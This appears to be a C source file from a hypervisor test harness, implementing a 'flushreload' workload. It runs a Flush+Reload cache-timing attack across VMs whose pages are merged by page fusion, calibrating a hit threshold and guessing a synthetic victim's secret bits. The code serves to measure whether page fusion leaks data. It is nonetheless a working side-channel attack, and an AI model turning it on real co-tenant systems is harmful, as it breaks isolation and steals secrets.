/* The "flushreload" workload: a Flush+Reload attacker. Its slice holds the
 * two public pages (pages 0-1, the same bytes as the "secret" victim's pages
 * 1-2, so fusion maps both VMs onto the same physical pages), a private
 * calibration page (page 2) and a control page. Before its first round it
 * measures reload times of a cached and of a flushed line on the private
 * page (cycles, rdtscp) and puts the hit/miss threshold between the medians.
 * A round (one op) repeats REPS times: clflush every line of the public
 * pages, let the victim run a moment, reload each line timed and count hits
 * per line. Then, per page, the lines the victim never touches (32-63) give
 * a baseline hit count, and secret bit i is guessed as the line of pair i
 * whose count strays further from it (ties: a coin from the seed): the
 * victim's line is hit far more often when it sits in a cache the attacker
 * reads fast, and never when it sits in another core's cache that answers
 * slower than the threshold; measured here, both happen, by placement.
 * While the pages are shared the victim's accesses show; once they are not,
 * every line behaves like the baseline and guesses are coins.
 * Results: aux[0] rounds, aux[1] guesses, aux[2] correct guesses (scored
 * against the victim's seed, which is this VM's seed), aux[3] the
 * calibration: median hit cycles << 32 | median miss cycles. */
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include "memvisor/util.h"
#include "prng.h"
#include "vm_i.h"
#if defined(__x86_64__)
#include <x86intrin.h>
#include "memvisor/cachetime.h"
#endif

#define FR_MAGIC 0x31444c5248535546ULL   /* "FUSHRLD1" */
#define LINES (64 * MV_PUBLIC_PAGES)
#define LINE 64
#define REPS 2000
#define CALIB 2001
#define CAP 1000                 /* cycles: an interrupt must not swamp a line's sum */
#define COIN_STREAM 0x434f494e53545231ULL

struct fr_ctl {
	uint64_t magic;
	uint64_t thr;          /* cycles: a reload faster than this hit the cache */
	uint64_t round;
	uint32_t hits[LINES];
	uint64_t cycles[LINES];   /* summed reload times, each capped at CAP */
};

#if defined(__x86_64__)
static void calibrate(struct mv_wl_state *st, struct fr_ctl *c, const volatile uint8_t *priv)
{
	static _Thread_local uint64_t hit[CALIB], miss[CALIB];
	for (unsigned i = 0; i < CALIB; i++) {
		(void)*priv;
		hit[i] = mv_reload_cycles(priv);
	}
	for (unsigned i = 0; i < CALIB; i++) {
		_mm_clflush((const void *)priv);
		_mm_mfence();
		miss[i] = mv_reload_cycles(priv);
	}
	qsort(hit, CALIB, sizeof(hit[0]), mv_cmp_u64);
	qsort(miss, CALIB, sizeof(miss[0]), mv_cmp_u64);
	uint64_t h = hit[CALIB / 2], m = miss[CALIB / 2];
	c->thr = h < m ? (h + m) / 2 : 0;   /* 0: no usable gap, every reload a miss */
	st->aux[3] = (h << 32) | (m & 0xffffffffu);
}

/* Median summed reload time of the 32 lines the victim never touches. */
static uint64_t baseline(const uint64_t *h)
{
	uint64_t v[64 - 2 * MV_BITS_PER_PAGE];
	size_t n = sizeof(v) / sizeof(v[0]);
	memcpy(v, h, sizeof(v));
	for (size_t i = 1; i < n; i++)
		for (size_t k = i; k > 0 && v[k - 1] > v[k]; k--) {
			uint64_t t = v[k];
			v[k] = v[k - 1];
			v[k - 1] = t;
		}
	return v[n / 2];
}

static void round_once(struct mv_wl_state *st, struct fr_ctl *c, const volatile uint8_t *pub)
{
	memset(c->hits, 0, sizeof(c->hits));
	memset(c->cycles, 0, sizeof(c->cycles));
	/* A fresh random order each round: a stride prefetcher would learn any
	 * fixed step and fetch lines ahead of their reload. */
	uint8_t order[LINES];
	for (unsigned k = 0; k < LINES; k++)
		order[k] = (uint8_t)k;
	for (unsigned k = LINES - 1; k > 0; k--) {
		unsigned j = (unsigned)mv_prng_below(mv_mix3(st->seed ^ COIN_STREAM, c->round, k), k + 1);
		uint8_t t = order[k];
		order[k] = order[j];
		order[j] = t;
	}
	for (unsigned r = 0; r < REPS; r++) {
		for (unsigned l = 0; l < LINES; l++)
			_mm_clflush((const void *)(pub + l * LINE));
		_mm_mfence();
		for (volatile unsigned s = 0; s < 300; s++)
			;
		for (unsigned k = 0; k < LINES; k++) {
			unsigned l = order[k];
			uint64_t t = mv_reload_cycles(pub + l * LINE);
			c->hits[l] += t < c->thr;
			c->cycles[l] += t < CAP ? t : CAP;
		}
	}
	uint32_t bits = mv_secret_bits(st->p.seed);
	uint64_t correct = 0;
	for (unsigned i = 0; i < MV_SECRET_BITS; i++) {
		const uint64_t *h = c->cycles + (i / MV_BITS_PER_PAGE) * 64;
		uint64_t base = baseline(h + 2 * MV_BITS_PER_PAGE);
		unsigned j = i % MV_BITS_PER_PAGE;
		uint64_t d0 = h[2 * j] > base ? h[2 * j] - base : base - h[2 * j];
		uint64_t d1 = h[2 * j + 1] > base ? h[2 * j + 1] - base : base - h[2 * j + 1];
		unsigned guess = d1 > d0 ? 1
			       : d0 > d1 ? 0
			       : (unsigned)(mv_mix3(st->p.seed ^ COIN_STREAM, c->round, i) & 1);
		correct += guess == ((bits >> i) & 1);
	}
	st->aux[0]++;
	st->aux[1] += MV_SECRET_BITS;
	st->aux[2] += correct;
	c->round++;
}
#endif

#define PRIV_PAGE MV_PUBLIC_PAGES
static struct fr_ctl *ctl_of(uint8_t *hva)
{
	return (struct fr_ctl *)(hva + (PRIV_PAGE + 1) * MV_WL_PAGE);
}

static int fr_init(struct mv_wl_state *st, struct mv_guest_mem *m, struct mv_error **err)
{
#if !defined(__x86_64__)
	return mv_err(err, -ENOTSUP, "flushreload needs x86-64 (clflush, rdtscp)");
#endif
	uint8_t *hva = mv_wl_slice(st, m);
	if (!hva || st->gpa_len < (PRIV_PAGE + 2) * MV_WL_PAGE)
		return mv_err(err, -EINVAL, "vcpu %u: flushreload needs 4 pages of working set",
			      st->vcpu);
	mv_wl_zero(hva, st->gpa_len);
	for (unsigned k = 0; k < MV_PUBLIC_PAGES; k++)
		mv_public_page_fill((uint64_t *)(hva + k * MV_WL_PAGE), k);
	uint64_t *priv = (uint64_t *)(hva + PRIV_PAGE * MV_WL_PAGE);
	for (uint64_t j = 0; j < MV_WL_PAGE / 8; j++)
		priv[j] = mv_prng_at(st->seed ^ COIN_STREAM, j);
	ctl_of(hva)->magic = FR_MAGIC;
	st->ops_done = 0;
	memset(st->aux, 0, sizeof(st->aux));
	return 0;
}

static int64_t fr_step(struct mv_wl_state *st, struct mv_guest_mem *m, uint64_t max_ops)
{
#if defined(__x86_64__)
	uint8_t *hva = mv_wl_slice(st, m);
	if (!hva)
		return -EINVAL;
	struct fr_ctl *c = ctl_of(hva);
	if (st->aux[3] == 0)
		calibrate(st, c, hva + PRIV_PAGE * MV_WL_PAGE);
	round_once(st, c, hva);
	st->ops_done++;
	(void)max_ops;
	return 1;
#else
	return -ENOTSUP;
#endif
}

static int fr_verify(const struct mv_wl_state *st, struct mv_guest_mem *m, struct mv_error **err)
{
	uint8_t *hva = mv_wl_slice(st, m);
	if (st->kind != MV_WL_FLUSHRELOAD || !hva || st->gpa_len < (PRIV_PAGE + 2) * MV_WL_PAGE ||
	    ctl_of(hva)->magic != FR_MAGIC || st->aux[2] > st->aux[1] ||
	    st->aux[1] != st->aux[0] * MV_SECRET_BITS)
		return mv_err(err, -EIO, "vcpu %u: flushreload state is corrupt", st->vcpu);
	static _Thread_local uint64_t want[MV_WL_PAGE / 8];
	for (unsigned k = 0; k < MV_PUBLIC_PAGES; k++) {
		mv_public_page_fill(want, k);
		if (memcmp(hva + k * MV_WL_PAGE, want, MV_WL_PAGE) != 0)
			return mv_err(err, -EIO, "vcpu %u: public page %u changed", st->vcpu, k);
	}
	return 0;
}

const struct mv_wl_ops mv_wl_flushreload_ops = {
	.name = "flushreload",
	.init = fr_init,
	.step = fr_step,
	.verify = fr_verify,
};
